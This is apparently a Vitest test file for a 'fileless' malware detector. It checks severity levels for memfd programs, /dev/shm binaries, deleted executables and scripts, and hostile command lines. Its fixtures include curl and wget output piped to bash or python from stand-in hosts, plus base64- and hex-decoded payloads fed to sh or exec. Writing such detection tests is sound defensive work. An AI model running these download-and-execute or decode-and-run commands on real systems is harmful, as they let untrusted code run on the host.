// Tests for fileless: ordinary processes (and a daemon whose binary an upgrade replaced) stay quiet
// or low; memfd miners, curl|sh, base64 payloads, /dev/shm binaries and deleted scripts are found;
// /tmp and a deleted cwd count only beside those.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import {
  cleanHostProcesses,
  makeProcess,
  makeSnapshot,
  makeSocket,
} from '../../../test/helpers/snapshot-builders.js';
import { hiddenWith } from '../../../test/helpers/stealth-builders.js';
import { runDetectors } from '../run.js';
import { base64Blob, downloadPipe, fileless } from './fileless.js';

const ruleset = await loadRuleset([defaultIocDir()]);

function levelOf(p: ReturnType<typeof makeProcess>, hidden = hiddenWith()) {
  const { findings } = runDetectors(makeSnapshot({ processes: [p], hidden }), ruleset, [fileless]);
  for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
  return findings[0];
}

describe('fileless', () => {
  it('clean: a normal host', () => {
    expect(runDetectors(makeSnapshot({ processes: cleanHostProcesses() }), ruleset, [fileless])).toEqual({
      findings: [],
      skipped: [],
    });
  });

  it('findings: a busy memfd program is critical, an idle one medium, runc low', () => {
    const busy = levelOf(
      makeProcess({ pid: 50, exe: '/memfd:x', exeMemfd: true, exeDeleted: true, cpuPercent: 97 }),
    );
    expect(busy).toMatchObject({
      level: 'critical',
      kind: 'fileless',
      remediate: [{ type: 'kill-process-tree', pid: 50, exe: '/memfd:x' }],
    });
    expect(busy).toMatchObject({
      messageId: 'fileless',
      data: { pid: 50, exe: '/memfd:x', signs: 'memfdBusy' },
    });
    expect(
      levelOf(
        makeProcess({ pid: 51, exe: '/memfd:sealed', exeMemfd: true, cpuPercent: 0, cpuPercentLifetime: 0 }),
      )?.level,
    ).toBe('medium');
    expect(
      levelOf(makeProcess({ pid: 52, exe: '/memfd:runc_cloned:/proc/self/exe', exeMemfd: true }))?.level,
    ).toBe('low');
    const talking = makeProcess({
      pid: 53,
      exe: '/memfd:k',
      exeMemfd: true,
      cpuPercent: 1,
      cpuPercentLifetime: 1,
    });
    const sockets = [
      makeSocket({ pids: [53], state: 'ESTABLISHED', remoteAddress: '203.0.113.7', remotePort: 3333 }),
    ];
    const { findings } = runDetectors(makeSnapshot({ processes: [talking], sockets }), ruleset, [fileless]);
    expect(findings[0]?.level).toBe('critical');
    expect(findings[0]?.data).toMatchObject({ pid: 53, exe: '/memfd:k', signs: 'memfdConnected' });
  });

  it('findings: deleted executables: high in /var/tmp, low for an upgraded daemon in /usr/sbin', () => {
    const odd = levelOf(makeProcess({ pid: 60, exe: '/var/tmp/x', exeDeleted: true }));
    expect(odd?.level).toBe('high');
    expect(odd?.data).toMatchObject({ signs: 'deletedExecutable, startedFrom' });
    expect(levelOf(makeProcess({ pid: 61, exe: '/usr/sbin/sshd', exeDeleted: true }))?.level).toBe('low');
  });

  it('findings: /dev/shm high, /tmp medium', () => {
    const shm = levelOf(makeProcess({ pid: 70, exe: '/dev/shm/kdevtmpfsi' }));
    expect(shm?.level).toBe('high');
    expect(shm?.data).toMatchObject({ signs: 'startedFrom' });
    // /tmp alone is a build, not a sign; beside a deleted executable it is named too.
    expect(levelOf(makeProcess({ pid: 71, exe: '/tmp/build/a.out' }))).toBeUndefined();
    const both = levelOf(makeProcess({ pid: 72, exe: '/tmp/.x/a', exeDeleted: true }));
    expect(both).toMatchObject({
      messageId: 'fileless',
      data: {
        pid: 72,
        label: '/tmp/.x/a (deleted)',
        exe: '/tmp/.x/a',
        signs: 'deletedExecutable, startedFrom',
      },
    });
    expect(both?.message.en).toBe(
      'PID 72 (/tmp/.x/a (deleted)): its executable /tmp/.x/a was deleted after it started; it was started from /tmp (world-writable)',
    );
  });

  it('findings: curl piped to sh and base64-decoded payloads are high, with the matched text', () => {
    const curl = levelOf(
      makeProcess({
        pid: 80,
        exe: '/usr/bin/bash',
        argv: ['sh', '-c', 'curl -fsSL http://203.0.113.5/x.sh | bash'],
      }),
    );
    expect(curl?.level).toBe('high');
    expect(curl?.data).toMatchObject({ pid: 80, signs: 'downloadPipe' });
    expect(curl?.evidence).toContainEqual({
      type: 'match',
      field: 'argv',
      value: 'curl -fsSL http://203.0.113.5/x.sh | bash',
      ioc: 'download piped to an interpreter',
    });
    const b64 = levelOf(
      makeProcess({
        pid: 81,
        exe: '/usr/bin/bash',
        argv: ['bash', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'],
      }),
    );
    expect(b64?.level).toBe('high');
    expect(b64?.data).toMatchObject({
      pid: 81,
      signs: 'decodesPayload',
      reasons: {
        en: 'it decodes a payload carried in its command line',
        'zh-CN': '它解码命令行中携带的载荷',
      },
    });
    const py = levelOf(
      makeProcess({
        pid: 82,
        exe: '/usr/bin/python3.11',
        argv: ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'],
      }),
    );
    expect(py?.level).toBe('high');
    expect(py?.data).toMatchObject({ signs: 'decodesPayload' });
    const hex = levelOf(
      makeProcess({
        pid: 83,
        exe: '/usr/bin/bash',
        argv: ['sh', '-c', 'echo 7f454c46 | xxd -r -p > /tmp/k'],
      }),
    );
    expect(hex?.level).toBe('high');
    expect(hex?.data).toMatchObject({ signs: 'decodesPayload' });
  });

  it('download pipes: the first pipe of the downloader’s command into an interpreter, nothing else', () => {
    expect(downloadPipe('sh -c wget -qO- http://x/a | sudo /usr/bin/python3 -')).toBe(
      'wget -qO- http://x/a | sudo /usr/bin/python3',
    );
    expect(downloadPipe('curl x;curl -s y|sh')).toBe('curl -s y|sh');
    // The developer's pipeline: the download goes to jq first, not to an interpreter.
    expect(downloadPipe('curl -s x | jq . | python3 -m json.tool')).toBeUndefined();
    expect(downloadPipe('curl x & bash y')).toBeUndefined();
    expect(downloadPipe('libcurl-config | sh')).toBeUndefined();
  });

  it('base64 blobs: a run of 200 or more with its padding; shorter runs are not', () => {
    const run = 'QUJD'.repeat(50);
    expect(base64Blob(`x ${run}== y`)).toBe(`${run}==`);
    expect(base64Blob(`x ${run.slice(1)} y`)).toBeUndefined();
  });

  it('reads a hostile command line in one pass', () => {
    // The regexes these replaced rescanned the rest of the line from every "curl " (2 s for
    // 128 KB; a command line may hold 2 MB) and every character of a 199-character run.
    const started = Date.now();
    expect(downloadPipe('curl '.repeat(400_000))).toBeUndefined();
    expect(downloadPipe(`${'curl x|a '.repeat(200_000)}curl y | sh`)).toBe('curl y | sh');
    expect(base64Blob(`${'a'.repeat(199)} `.repeat(10_000))).toBeUndefined();
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it('findings: a script deleted after start (high in /tmp); a deleted cwd alone is not reported', () => {
    const sh = makeProcess({ pid: 90, exe: '/usr/bin/bash', argv: ['bash', '/tmp/i.sh'] });
    const hidden = hiddenWith({ deletedScripts: [{ pid: 90, interpreter: 'bash', path: '/tmp/i.sh' }] });
    const f = levelOf(sh, hidden);
    expect(f?.level).toBe('high');
    expect(f?.data).toMatchObject({ pid: 90, deletedScript: '/tmp/i.sh', signs: 'deletedScript' });
    expect(f?.evidence).toContainEqual({
      type: 'match',
      field: 'script',
      value: '/tmp/i.sh (deleted)',
      ioc: 'script deleted after start',
    });
    // A shell in a removed directory is ordinary on its own.
    expect(
      levelOf(makeProcess({ pid: 91, exe: '/usr/bin/bash', cwd: '/home/a/old', cwdDeleted: true })),
    ).toBeUndefined();
  });

  it('skipped: without a process list', () => {
    expect(runDetectors(makeSnapshot({}), ruleset, [fileless]).skipped).toEqual([
      { ruleId: 'fileless', missing: ['processes'] },
    ]);
  });
});
